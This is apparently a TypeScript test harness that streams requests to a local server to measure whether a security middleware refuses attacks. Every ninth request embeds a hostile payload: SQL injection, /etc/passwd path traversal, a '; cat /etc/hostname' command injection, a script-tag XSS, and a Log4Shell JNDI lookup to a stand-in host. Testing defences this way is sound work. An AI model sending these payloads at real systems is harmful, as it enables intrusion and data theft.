import { Agent, request } from 'node:http';

export interface Visit {
  readonly method: string;
  readonly path: string;
  readonly body?: string;
  readonly isAttack: boolean;
  /** What a call that is no attack is answered with. */
  readonly status: number;
}

const attacks = [
  (n: number) => `/search?raw=1&name=${encodeURIComponent(`x${n}' OR '${n}'='${n}`)}`,
  (n: number) => `/files?name=${encodeURIComponent(`../../../../../../etc/passwd${n % 7 ? '' : '%00'}`)}`,
  (n: number) => `/echo?text=${encodeURIComponent(`${n}; cat /etc/hostname`)}`,
  (n: number) => `/area-${n % 60}/${encodeURIComponent(`<script>alert(${n})</script>`)}`,
  (n: number) => `/area-${n % 60}/1?x=${encodeURIComponent(`\${jndi:ldap://h${n}.example/a}`)}`,
];
const names = [
  "O'Brien",
  'rock & roll; drop table lamp',
  'Ünal',
  'select your seat',
  'a < b or c > d',
  '../ in prose',
];

/** The `n`th request of an endless visit: ids and texts that never come twice, and every ninth one an attack. */
export function visit(n: number): Visit {
  const kind = n % 9;
  const get = (path: string, status = 200): Visit => ({ method: 'GET', path, status, isAttack: false });
  if (kind === 0) {
    const path = attacks[Math.floor(n / 9) % attacks.length]?.(n) ?? '/';
    return { method: 'GET', path, status: 0, isAttack: true };
  }
  if (kind === 1) return get(`/customers?name=${encodeURIComponent(`${names[n % names.length]} ${n}`)}`);
  if (kind === 2) return get(`/search?name=${encodeURIComponent(`${names[n % names.length]} ${n}`)}`);
  if (kind === 3) return get('/files?name=app.cjs');
  if (kind === 4) return get(`/scan-${n}/index-${n}.php`, 404);
  if (kind === 5) {
    const items = Array.from({ length: n % 90 === 5 ? 400 : 2 }, (_, i) => ({
      productId: n + i,
      note: `note ${n}`,
    }));
    return { method: 'POST', path: '/orders', body: JSON.stringify({ items }), status: 201, isAttack: false };
  }
  return get(`/area-${n % 60}/${n}?page=${n % 50}`);
}

const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** Callers beyond number, over connections that are kept. */
function headersOf(n: number, body: string | undefined): Record<string, string> {
  return {
    authorization: `Bearer ${part({ alg: 'HS256' })}.${part({ sub: `user-${(n * 7919) % 50_000}` })}.c2ln`,
    'x-forwarded-for': `10.${n % 200}.${(n >> 3) % 250}.${(n >> 7) % 250}`,
    'user-agent': `Mozilla/5.0 (X11; Linux x86_64) Version/${n % 400}`,
    cookie: `sid=s${n % 20_000}; theme=dark`,
    ...(body === undefined
      ? {}
      : { 'content-type': 'application/json', 'content-length': `${Buffer.byteLength(body)}` }),
  };
}

export interface Tally {
  requests: number;
  attacks: number;
  attacksRefused: number;
  /** Answers that an application without the library would not have given, and none at all. */
  errors: string[];
}

export const tally = (): Tally => ({ requests: 0, attacks: 0, attacksRefused: 0, errors: [] });

/** Sends requests from number `from` on, some at a time, as long as `goesOn` says. @returns the next number */
export async function send(
  port: number,
  from: number,
  sum: Tally,
  goesOn: (n: number) => boolean,
): Promise<number> {
  const agent = new Agent({ keepAlive: true, maxSockets: 8 });
  let next = from;
  const one = (n: number) =>
    new Promise<void>((resolve) => {
      const { method, path, body, status, isAttack } = visit(n);
      const failed = (what: string) => {
        if (sum.errors.length < 20) sum.errors.push(`${method} ${path}: ${what}`);
        resolve();
      };
      sum.requests += 1;
      const outgoing = request(
        { agent, port, host: '127.0.0.1', method, path, headers: headersOf(n, body) },
        (response) => {
          const { statusCode = 0 } = response;
          if (isAttack) {
            sum.attacks += 1;
            if (statusCode === 403) sum.attacksRefused += 1;
          }
          response.resume().on('error', ({ message }) => failed(message));
          response.on('end', () => (isAttack || statusCode === status ? resolve() : failed(`${statusCode}`)));
        },
      );
      outgoing.on('error', ({ message }) => failed(message));
      outgoing.end(body);
    });
  const worker = async () => {
    while (goesOn(next)) await one(next++);
  };
  await Promise.all(Array.from({ length: 8 }, worker));
  agent.destroy();
  return next;
}
